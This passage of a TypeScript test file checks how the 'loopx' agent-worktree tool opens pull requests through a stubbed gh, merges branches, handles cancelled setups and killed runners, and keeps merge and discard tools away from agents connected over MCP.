      { base: 'main', from: 'main', setup: 'npm ci', setupFrom: null, channel: 'tty' },
      { base: 'main', from: null },
    ]);
  });

  test('without gh, opening a pull request says so in words and records nothing', () => {
    const s = setUp();
    agentTurn(s, 'T1', 'a.txt', 'a\n');
    const before = dumpStore(s.root);
    // A PATH with git and nothing else: gh is surely absent, whatever this machine has installed.
    const bin = join(s.parent, 'bin');
    mkdirSync(bin);
    symlinkSync(execFileSync('sh', ['-c', 'command -v git'], { encoding: 'utf8' }).trim(), join(bin, 'git'));
    const pr = loopxTty(['worktree', 'pr', 'T1', '--json'], 'T1', { cwd: s.root, env: { ...GIT_ID, PATH: bin } });
    expect([pr.code, pr.json?.error?.code]).toEqual([3, 'gh_missing']);
    expect(pr.json?.error?.message).toMatch(/gh\) is not installed here, so no pull request was opened/);
    expect(dumpStore(s.root)).toBe(before);
  });
});

describe.skipIf(!PTY_AVAILABLE)(`pull requests and merges away from the main folder${PTY_AVAILABLE ? '' : ` (${PTY_SKIP_REASON})`}`, () => {
  test('with gh present, the branch is pushed and gh gets exactly the PR it should; its address is stored and shown', () => {
    const s = setUp();
    agentTurn(s, 'T1', 'a.txt', 'a\n');
    const remote = join(s.parent, 'remote.git');
    s.git(['init', '-q', '--bare', remote], s.parent);
    s.git(['remote', 'add', 'origin', remote]);
    // A fake gh: `--version` answers, `pr create` records its argv (NUL-separated) and environment, and prints a URL.
    const bin = join(s.parent, 'gh-bin');
    mkdirSync(bin);
    writeFileSync(
      join(bin, 'gh'),
      [
        '#!/bin/sh',
        'if [ "$1" = --version ]; then echo "gh version 2.0.0"; exit 0; fi',
        `printf '%s\\0' "$@" > '${bin}/argv'`,
        `echo "$GH_PROMPT_DISABLED" > '${bin}/prompt-disabled'`,
        'echo "Creating pull request for loopx/T1 into main"',
        'echo "https://github.example/acme/app/pull/7"',
        '',
      ].join('\n'),
    );
    chmodSync(join(bin, 'gh'), 0o755);
    const env = { ...GIT_ID, PATH: `${bin}:${process.env.PATH ?? ''}` };
    const pr = loopxTty(['worktree', 'pr', 'T1', '--json'], 'T1', { cwd: s.root, env });
    expect(pr.code, pr.stdout).toBe(0);
    expect(readFileSync(join(bin, 'argv'), 'utf8').split('\0').slice(0, -1)).toEqual([
      'pr',
      'create',
      '--base',
      'main',
      '--head',
      'loopx/T1-parse-quoted-fields',
      '--title',
      'Parse quoted fields',
      '--body',
      'Parse quoted fields\n\nFrom loopx todo T1 (branch loopx/T1-parse-quoted-fields).',
    ]);
    expect(readFileSync(join(bin, 'prompt-disabled'), 'utf8').trim()).toBe('1');
    expect(s.git(['rev-parse', 'loopx/T1-parse-quoted-fields'], remote)).toBe(s.git(['rev-parse', 'loopx/T1-parse-quoted-fields']));
    expect(pr.json?.data).toMatchObject({ status: 'pr', prUrl: 'https://github.example/acme/app/pull/7', landedChannel: 'tty' });
    expect(s.cli(['todo', 'show', 'T1', '--json']).json.data).toMatchObject({
      change: { status: 'pr', prUrl: 'https://github.example/acme/app/pull/7' },
    });
    expect(s.cli(['todo', 'show', 'T1']).stdout).toContain('https://github.example/acme/app/pull/7');
    const landed = (s.cli(['history', '--json']).json.data as { kind: string; data: Record<string, unknown> }[]).find(
      (e) => e.kind === 'worktree.landed',
    );
    expect(landed?.data).toMatchObject({ how: 'pr', url: 'https://github.example/acme/app/pull/7', channel: 'tty' });
  });

  test('a base checked out nowhere is merged in a scratch worktree, by fast-forward and by merge commit; the main folder is untouched', () => {
    const s = setUp([]);
    s.git(['branch', 'release']); // a base no folder has checked out: the main folder is on main
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', 'release'));
    const mainHead = s.git(['rev-parse', 'main']);
    agentTurn(s, 'T1', 'a.txt', 'a\n');
    agentTurn(s, 'T2', 'b.txt', 'b\n');
    const ff = s.tty(['worktree', 'merge', 'T1', '--json'], 'T1');
    expect(ff.code, ff.stdout).toBe(0);
    expect(s.git(['rev-parse', 'release'])).toBe(s.git(['rev-parse', 'loopx/T1-parse-quoted-fields']));
    expect(ff.json?.data).toMatchObject({ status: 'merged', landedCommit: s.git(['rev-parse', 'release']) });
    const commit = s.tty(['worktree', 'merge', 'T2', '--merge-commit', '--json'], 'T2');
    expect(commit.code, commit.stdout).toBe(0);
    const parents = s.git(['log', '-1', '--format=%P', 'release']).split(' ');
    expect(parents).toEqual([s.git(['rev-parse', 'loopx/T1-parse-quoted-fields']), s.git(['rev-parse', 'loopx/T2-write-the-docs'])]);
    expect(s.git(['log', '-1', '--format=%s', 'release'])).toBe('Merge loopx/T2-write-the-docs: Write the docs (loopx T2)');
    expect(s.git(['ls-tree', '--name-only', 'release']).split('\n')).toEqual(expect.arrayContaining(['a.txt', 'b.txt', 'shared.txt']));
    // main and the main folder are as they were; no scratch worktree is left behind.
    expect(s.git(['rev-parse', 'main'])).toBe(mainHead);
    expect(s.git(['rev-parse', '--abbrev-ref', 'HEAD'])).toBe('main');
    expect(existsSync(join(s.root, 'a.txt'))).toBe(false);
    expect(s.git(['worktree', 'list', '--porcelain'])).not.toContain('.merge-');
    expect(readdirSync(join(s.parent, 'app.loopx-worktrees')).filter((n) => n.startsWith('.merge-'))).toEqual([]);
  });
});

describe('in VS Code (the kernel with channel vscode)', () => {
  test('merge and discard go through the same rules: a merge commit lands, the channel is recorded', async () => {
    const s = setUp();
    agentTurn(s, 'T1', 'a.txt', 'a\n');
    agentTurn(s, 'T2', 'b.txt', 'b\n');
    const merged = await inVsCodeAsync(s.root, (k) => mergeWorktree(k, 'T1', 'merge'));
    expect(merged).toMatchObject({ status: 'merged', landedChannel: 'vscode' });
    expect(s.git(['log', '-1', '--format=%s', 'main'])).toBe('Merge loopx/T1-parse-quoted-fields: Parse quoted fields (loopx T1)');
    expect(await inVsCodeAsync(s.root, (k) => discardWorktree(k, 'T2', false))).toMatchObject({ status: 'discarded' });
  });
});

describe('VS Code prepares a turn without blocking its extension host', () => {
  test('while a slow setup runs in-process, the event loop turns and another kernel write completes; then the turn starts', async () => {
    const s = setUp();
    const done = join(s.parent, 'setup-done');
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, `sleep 2; echo > '${done}'`));
    const kernel = Kernel.open(s.root, { actor: { name: 'ada', kind: 'human', channel: 'vscode' } });
    try {
      const order: string[] = [];
      const steps: string[] = [];
      const input = { goalId: 'G1', host: 'custom', todoId: 'T1', agent: 'bot' };
      const preparing = prepareTurnStart(kernel, input, { onProgress: (p) => steps.push(`${p.todoId} ${p.step} ${p.command ?? ''}`) }).then(
        (prepared) => (order.push('setup finished'), prepared),
      );
      await new Promise((resolve) => setTimeout(resolve, 100));
      // The same kernel writes while the setup runs (spawnSync would have held this until the setup ended).
      const added = addTodo(kernel, { goalId: 'G1', title: 'Meanwhile' });
      order.push(existsSync(done) ? 'write after the setup' : `write ${added.id} while the setup runs`);
      const started = startTurn(kernel, input, await preparing);
      expect(order).toEqual(['write T3 while the setup runs', 'setup finished']);
      expect(steps).toEqual(['T1 worktree ', `T1 setup sleep 2; echo > '${done}'`]);
      expect(started).toMatchObject({ worktree: { branch: 'loopx/T1-parse-quoted-fields', created: true } });
    } finally {
      kernel.close();
    }
  });

  test('cancelling the setup kills it and starts no turn: nothing is claimed', async () => {
    const s = setUp();
    inVsCode(s.root, (k) => setGoalWorktree(k, 'G1', undefined, 'sleep 30'));
    const before = dumpStore(s.root);
    const kernel = Kernel.open(s.root, { actor: { name: 'ada', kind: 'human', channel: 'vscode' } });
    try {
      const abort = new AbortController();
      const preparing = prepareTurnStart(
        kernel,
        { goalId: 'G1', host: 'custom', todoId: 'T1' },
        {
          signal: abort.signal,
          onProgress: (p) => p.step === 'setup' && abort.abort(),
        },
      );
      await expect(preparing).rejects.toMatchObject({ code: 'setup_cancelled' });
    } finally {
      kernel.close();
    }
    expect(dumpStore(s.root)).toBe(before);
  });
});

describe('a runner killed mid-turn', () => {
  test('leaves the worktree with its work, and the next turn picks it up on the same branch', async () => {
    const s = setUp(['--worktree', 'main'], ['Parse quoted fields']);
    const first = s.runner(['--host', 'custom', '--command', agentCommand('hang'), '--agent', 'bot', '--turn-limit', '15s']);
    await first.waitFor((e) => e.event === 'output' && e.line === 'hanging');
    const launcher = JSON.parse(readFileSync(join(s.root, '.loopx', 'turns', 'R1', 'launcher.json'), 'utf8')) as { hostPid: number };
    first.child.kill('SIGKILL');
    process.kill(-launcher.hostPid, 'SIGKILL'); // the agent dies with it
    await first.exited;
    for (let i = 0; i < 100 && processAlive(launcher.hostPid); i++) await new Promise((r) => setTimeout(r, 50));
    const path = join(s.parent, 'app.loopx-worktrees', 'T1-parse-quoted-fields');
    expect(readFileSync(join(path, 'T1.txt'), 'utf8')).toBe('T1 half done\n');
    const next = s.runner(['--host', 'custom', '--command', agentCommand('resume'), '--agent', 'bot-2', '--until-idle', '--lease', '10s']);
    expect(await next.exited, next.stderr()).toEqual({ code: 0, signal: null });
    const turns = s.cli(['turn', 'list', '--json']).json.data as { id: string; todoId: string; resultKind: string }[];
    expect(
      turns.find((t) => t.id === 'R2'),
      JSON.stringify([turns, next.events]),
    ).toMatchObject({ todoId: 'T1', resultKind: 'validated_completion' });
    expect(s.git(['log', '--format=%s', 'main..loopx/T1-parse-quoted-fields'])).toBe('T1: work of bot-2');
    expect(s.git(['show', '--format=', '--name-only', 'loopx/T1-parse-quoted-fields'])).toBe('T1.txt');
  });
});

describe('over MCP', () => {
  test("an agent sees its todo's branch and change, and has no tool to merge, open a PR or discard", async () => {
    const s = setUp();
    agentTurn(s, 'T1', 'a.txt', 'a\n', false);
    const client = new Client({ name: 'test', version: '1.0.0' });
    const env = cleanEnv({ LOOPX_AGENT: 'claude', ...GIT_ID }) as Record<string, string>;
    await client.connect(new StdioClientTransport({ command: process.execPath, args: [LOOPX, 'mcp'], cwd: s.root, env }));
    try {
      const names = (await client.listTools()).tools.map((t) => t.name);
      expect(names.filter((n) => /merge|discard|pull|pr_|worktree|land/.test(n))).toEqual([]);
      const result = (await client.callTool({ name: 'loopx_todo_show', arguments: { todo: 'T1' } })) as { content: { text: string }[] };
      const shown = JSON.parse(result.content[0]?.text ?? '{}') as { data: { change: unknown } };
      expect(shown.data.change).toMatchObject({
        branch: 'loopx/T1-parse-quoted-fields',
        commits: [{ subject: 'T1 changes a.txt' }],
        diffStat: { files: 1 },
      });
    } finally {
      await client.close();
    }
  });
});
